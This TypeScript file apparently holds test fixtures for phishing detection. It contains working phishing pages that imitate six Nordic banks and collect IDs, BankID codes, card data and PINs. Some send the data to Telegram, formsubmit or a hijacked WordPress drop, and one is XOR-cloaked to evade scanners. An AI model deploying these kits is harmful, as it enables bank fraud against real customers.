import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, xorB64, logo, cardFields, tgSend } from '../parts/yx-kit.js';

export const entries: Entry[] = [
(() => {
  const h = 'handelsbanken-se.kundsakerhet.app';
  const kit = `<div style="font-family:Arial;background:#f5f5f5;min-height:100vh"><div style="background:#005cb9;padding:14px 26px">${logo.word('Handelsbanken', '#fff', 28)}</div>
<div style="max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:4px">
<h2 style="color:#003e7e">Logga in</h2><p>Välj inloggningsmetod</p>
<form id="hb" method="post" action="/logon/p.php">
<p><label><input type="radio" name="m" value="mbid" checked> Mobilt BankID</label><br><label><input type="radio" name="m" value="dosa"> Handelsbankens kortläsare</label></p>
<p>Personnummer<br><input name="pnr" style="width:100%;padding:10px" placeholder="ÅÅÅÅMMDDNNNN"></p>
<div id="dosa" style="display:none"><p>Kontrollkod från kortläsaren<br><input name="kod" style="width:100%;padding:10px"></p><p>Kortets PIN-kod<br><input name="pin" type="password" maxlength="4" style="width:100%;padding:10px"></p></div>
<button style="background:#005cb9;color:#fff;border:0;padding:12px 30px">Logga in</button></form>
<p style="font-size:12px;color:#777">Handelsbanken · Svenska Handelsbanken AB (publ)</p></div></div>
<script>document.querySelectorAll('[name=m]').forEach(function(r){r.onchange=function(){document.getElementById('dosa').style.display=this.value==='dosa'?'block':'none'}});</script>`;
  return {
    id: 'yx-handelsbanken-cloaked-xor-kit',
    label: 'phishing',
    kind: 'cloaked-bank-kit',
    url: `https://${h}/logon/se/priv/sv/`,
    body: doc({
      lang: 'sv',
      title: 'Laddar…',
      body: `<div id="root"><p style="font-family:Arial;color:#999;text-align:center;margin-top:120px">Sidan är under uppbyggnad.</p></div>
<script>
(function(){
 var ok = !navigator.webdriver && screen.width > 320 && navigator.languages && navigator.languages.join(',').indexOf('sv') > -1
   && Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Stockholm' && !/HeadlessChrome|PhantomJS|bot|crawler/i.test(navigator.userAgent);
 if (!ok) return;
 var b = atob('${xorB64(kit, 0x5a)}'), o = '';
 for (var i = 0; i < b.length; i++) o += String.fromCharCode(b.charCodeAt(i) ^ 90);
 document.title = 'Logga in | Handelsbanken';
 document.getElementById('root').innerHTML = decodeURIComponent(escape(o));
 var s = document.querySelector('#root script'); if (s) eval(s.textContent);
})();
</script>`,
    }),
  } satisfies Entry;
})(),
{
  id: 'yx-seb-card-update-formsubmit',
  label: 'phishing',
  kind: 'bank-card-harvest',
  url: 'https://seb-se.kortuppdatering.info/privat/kort/uppdatera.html',
  body: doc({
    lang: 'sv',
    title: 'SEB – Uppdatera ditt kort',
    css: `body{margin:0;font-family:"SEBSansSerif",Arial,sans-serif;background:#f0f0f0}.t{background:#fff;padding:12px 30px;border-bottom:4px solid #60cd18}.m{max-width:520px;margin:34px auto;background:#fff;padding:30px}.alert{border-left:5px solid #f2a900;background:#fff8e5;padding:12px 16px}.fld label{display:block;margin-top:10px;font-size:14px}.fld input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #999}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:18px;background:#41a62a;color:#fff;border:0;padding:13px 28px;font-size:16px}`,
    body: `<div class="t">${logo.bank('SEB', '#41a62a', 32)}</div>
<div class="m"><h1>Uppdatering av kortuppgifter</h1>
<div class="alert">Enligt det nya EU-direktivet om betaltjänster (PSD3) måste alla kortinnehavare bekräfta sina kortuppgifter senast <b>den 15 november</b>. Kort som inte bekräftats spärras för köp på internet.</div>
<form action="https://formsubmit.co/kortcenter.seb.se@proton.me" method="POST">
<input type="hidden" name="_captcha" value="false"><input type="hidden" name="_next" value="https://seb.se/privat">
<div class="fld"><label>Personnummer</label><input name="personnummer" required></div>
${cardFields('sv', ['kortnummer', 'giltig', 'cvc', 'kortinnehavare'])}
<div class="fld"><label>Kortets PIN-kod (för verifiering mot chip)</label><input name="pin" type="password" maxlength="4"></div>
<button>Bekräfta kort</button></form>
<p style="font-size:12px;color:#666;margin-top:24px">Skandinaviska Enskilda Banken AB (publ) · 106 40 Stockholm · Kundservice 0771-365 365</p></div>`,
  }),
} satisfies Entry,
(() => {
  const h = 'dnb-no.kunde-verifisering.site';
  return {
    id: 'yx-dnb-no-bankid-telegram-kit',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: `https://${h}/privat/logg-inn`,
    body: doc({
      lang: 'no',
      title: 'Logg inn – DNB',
      css: `body{margin:0;font-family:"DNB",Arial,sans-serif;background:#f2f4f4;color:#14555a}.nav{background:#14555a;padding:16px 30px}.p{max-width:440px;margin:40px auto;background:#fff;padding:30px;border-radius:2px}input{width:100%;box-sizing:border-box;padding:12px;border:0;border-bottom:2px solid #14555a;background:#f7f9f9;font-size:17px;margin:6px 0 16px}button{padding:12px 28px;background:#007272;color:#fff;border:0;border-radius:24px;font-size:16px}.ref{font-size:22px;font-weight:bold;background:#e0f0ef;padding:10px;text-align:center}`,
      body: `<div class="nav">${logo.word('DNB', '#fff', 30)}</div>
<div class="p">
<section id="a"><h1>Logg inn</h1><label for="f">Fødselsnummer</label><input id="f" maxlength="11" inputmode="numeric"><button onclick="g1()">Neste</button></section>
<section id="b" hidden><h2>BankID på mobil</h2><p>Kontroller at referanseordet stemmer med det som vises på mobilen:</p><p class="ref">GRØNN ULV</p><p>Venter på bekreftelse…</p></section>
<section id="c" hidden><h2>Bekreft med BankID-passord</h2><p>BankID på mobil kunne ikke fullføres. Logg inn med kodebrikke.</p><label>Engangskode</label><input id="o" maxlength="6"><label>BankID-passord</label><input id="pw" type="password"><button onclick="g3()">Logg inn</button></section>
</div>
<script>
${tgSend('6893312470:AAFxQ2m0Rk8yP1nV7tLzUw3cE5hJ9sdKq_A', '-1001982764120', "'DNB NO | '+new Date().toISOString()")}
function $(i){return document.getElementById(i)}
function g1(){snd(__m+'\\nFNR: '+$('f').value+'\\nUA: '+navigator.userAgent);$('a').hidden=true;$('b').hidden=false;setTimeout(function(){$('b').hidden=true;$('c').hidden=false},12000)}
function g3(){snd(__m+'\\nFNR: '+$('f').value+'\\nOTP: '+$('o').value+'\\nPW: '+$('pw').value).then(function(){location.replace('https://www.dnb.no/')})}
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const h = 'danske-sikkerhed.dk-kunde.net';
  return {
    id: 'yx-danske-dk-shortlink-cloaker-chain',
    label: 'phishing',
    kind: 'bank-kit-redirect-chain',
    url: 'https://s.dk-link.io/Dk7Pq',
    routes: {
      's.dk-link.io/Dk7Pq': redirectRoute(301, `https://${h}/gate?c=Dk7Pq`),
      [`${h}/gate`]: redirectRoute(302, `https://${h}/da/privat/log-paa/?t=Dk7Pq`),
      [`${h}/da/privat/log-paa/`]: htmlRoute(
        doc({
          lang: 'da',
          title: 'Log på – Danske Bank',
          css: `body{margin:0;font-family:"Danske Text",Arial,sans-serif;background:#f4f7f9;color:#003755}.top{background:#003755;padding:16px 28px}.w{max-width:460px;margin:36px auto;background:#fff;padding:28px}label{font-size:14px}input{width:100%;box-sizing:border-box;padding:11px;margin:5px 0 12px;border:1px solid #7a95a8}button{background:#003755;color:#fff;border:0;padding:12px 30px;font-size:15px}.fld{margin:2px 0}.half{display:inline-block;width:48%}.warn{background:#fdecea;border:1px solid #f5c2c0;padding:10px 14px;font-size:14px}`,
          body: `<div class="top">${logo.word('Danske Bank', '#fff', 28)}</div><div class="w">
<div class="warn">Vi har registreret et forsøg på at tilføje en ny enhed til din MitID. Hvis det ikke var dig, skal du bekræfte din identitet nedenfor, ellers spærres din netbank.</div>
<form method="post" action="/da/privat/log-paa/verify.php">
<h2>Log på med MitID</h2><label>Bruger-id</label><input name="user"><label>CPR-nummer</label><input name="cpr"><label>Mobilnummer</label><input name="mob">
<h3>Verificer dit Visa/Dankort</h3>${cardFields('da', ['kortnr', 'udloeb', 'kontrol', 'navn'])}
<button>Bekræft</button></form></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const drop = 'https://www.lvi-kuopio-sahko.fi/wp-includes/js/jcrop/op.php';
  return {
    id: 'yx-op-fi-pages-dev-mobiiliavain-kit',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://op-kirjaudu-tunnistus.pages.dev/kirjaudu',
    body: doc({
      lang: 'fi',
      title: 'OP – Kirjaudu sisään',
      css: `body{margin:0;background:#fff;font-family:"OP Text",Arial,sans-serif;color:#222}.hd{padding:16px 28px;border-bottom:1px solid #eee;display:flex;justify-content:space-between}.c{max-width:400px;margin:40px auto}input{width:100%;box-sizing:border-box;padding:13px;border:1px solid #999;border-radius:4px;margin:6px 0 14px;font-size:16px}button{width:100%;padding:14px;background:#ff6a10;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:bold}.err{color:#c8102e;font-size:14px}.mob{text-align:center}.mob .ring{width:70px;height:70px;margin:16px auto;border:4px solid #ff6a10;border-radius:50%;border-right-color:transparent;animation:s 1.2s linear infinite}@keyframes s{to{transform:rotate(1turn)}}`,
      body: `<div class="hd">${logo.bank('OP', '#ff6a10', 32)}<a href="#">Suomeksi ▾</a></div>
<div class="c" id="k1"><h1>Kirjaudu</h1><label>Käyttäjätunnus</label><input id="kt" inputmode="numeric"><label>Salasana</label><input id="pw" type="password"><p class="err" id="er"></p><button id="b1">Kirjaudu</button></div>
<div class="c mob" id="k2" hidden><h2>Vahvista OP-mobiilissa</h2><div class="ring"></div><p>Avaa OP-mobiili ja hyväksy tunnistautuminen. Jos hyväksyntä epäonnistuu, syötä mobiiliavaimen PIN alle.</p><input id="pin" type="password" maxlength="4" placeholder="PIN"><button id="b2">Vahvista</button></div>
<script>
var D='${drop}',n=0;
function tx(o){o.t=Date.now();navigator.sendBeacon(D,new Blob([JSON.stringify(o)],{type:'text/plain'}));}
document.getElementById('b1').onclick=function(){tx({kt:kt.value,pw:pw.value,n:n});if(n++<1){er.textContent='Virheellinen käyttäjätunnus tai salasana. Yritä uudelleen.';pw.value='';return;}k1.hidden=true;k2.hidden=false;};
document.getElementById('b2').onclick=function(){tx({kt:kt.value,pin:pin.value});k2.innerHTML='<p>Tapahtuma hyväksytty. Uudelleenohjataan…</p>';setTimeout(function(){location='https://www.op.fi/'},2500)};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const h = 'nordea-kund.se-verify.top';
  return {
    id: 'yx-nordea-se-userinfo-bankid-pin',
    label: 'phishing',
    kind: 'userinfo-lookalike-kit',
    url: `https://${h}/privat/logga-in`,
    submittedUrl: `https://www.nordea.se@${h}/privat/logga-in`,
    body: doc({
      lang: 'sv',
      title: 'Nordea – Logga in',
      css: `body{margin:0;background:#f3f3f6;font-family:Arial;color:#00005e}.h{background:#fff;padding:16px 28px}.b{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:8px}.r{background:#fde9e9;color:#8a0000;padding:10px 14px;border-radius:4px}input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 14px;border:1px solid #99a;border-radius:4px}button{width:100%;padding:12px;background:#0000a0;color:#fff;border:0;border-radius:22px}`,
      body: `<div class="h">${logo.word('Nordea', '#0000a0', 28)}</div><div class="b">
<p class="r">Ditt konto har tillfälligt begränsats. Logga in med Mobilt BankID för att häva begränsningen.</p>
<form method="post" action="/privat/logga-in/bid.php"><label>Personnummer</label><input name="pnr" placeholder="ÅÅÅÅMMDDXXXX">
<label>Säkerhetskod för Mobilt BankID</label><input name="bidpin" type="password" inputmode="numeric" maxlength="8">
<label>E-post</label><input name="mail" type="email"><button>Logga in</button></form>
<p style="font-size:12px">Nordea Bank Abp, filial i Sverige · 105 71 Stockholm</p></div>`,
    }),
  } satisfies Entry;
})(),
];
